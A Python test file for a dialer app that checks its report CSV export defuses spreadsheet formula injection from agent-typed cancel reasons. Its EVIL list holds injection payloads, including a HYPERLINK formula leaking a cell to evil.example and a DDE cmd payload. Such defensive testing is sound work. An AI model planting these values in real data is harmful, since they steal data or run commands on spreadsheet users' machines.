"""The reports' CSV (`format=csv`, and `dialer report`, which prints it) writes a text cell that a spreadsheet
would take for a formula (it begins with = + - @, a tab or a carriage return) with a leading ', as text: the
text comes from dispositions and lead imports (a `cancel_reason` typed by an agent or bought with a list).
Numbers, negative ones included, are written as they are."""

from __future__ import annotations

import csv
import io

from sup_fakes import AUTH, record

from dialer.engine.commands import DispositionMade
from dialer.supervisor.report_io import render_csv
from dialer.supervisor.tally import local_midnight

RO = AUTH["read-only"]
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"price")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
        "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formula_cells_are_written_as_text_and_numbers_as_numbers():
    rows = [{"list": v, "dials": -3, "rate": -0.25, "ok": True} for v in EVIL] + [{"list": "base", "dials": 0}]
    got = cells(render_csv(rows))
    assert got[0] == ["list", "dials", "rate", "ok"]
    assert [r[0] for r in got[1:]] == ["'" + v for v in EVIL] + ["base"]
    assert all(r[1:] == ["-3", "-0.25", "True"] for r in got[1:-1])
    assert len(got) == len(rows) + 1  # a carriage return inside a cell is quoted, not a new row


async def test_the_reasons_report_as_csv_neutralises_formulas(rig, client):
    now = rig.clock.now()
    t0 = max(local_midnight(now), now - 3 * 3600) + 60
    for i, text in enumerate(EVIL):
        rig.record(record(f"c{i}", ended_at=t0 + 60 * i, lead=f"L{i}"))
        rig.store.add_disposition(DispositionMade(f"c{i}", "a1", "sale", {"cancel_reason": text}, (), t0 + 60 * i + 5))
    await rig.flush()
    r = await client.get("/api/reports/reasons", headers=RO, params={"campaign": "upsell", "format": "csv"})
    assert r.status_code == 200
    written = [c for row in cells(r.text) for c in row]
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")], r.text
    assert {"'" + v for v in EVIL} <= set(written)
    # JSON keeps the text as it is
    j = (await client.get("/api/reports/reasons", headers=RO, params={"campaign": "upsell"})).json()["report"]
    assert {x["cancel_reason"] for x in j["cancel_reasons"]} == set(EVIL)
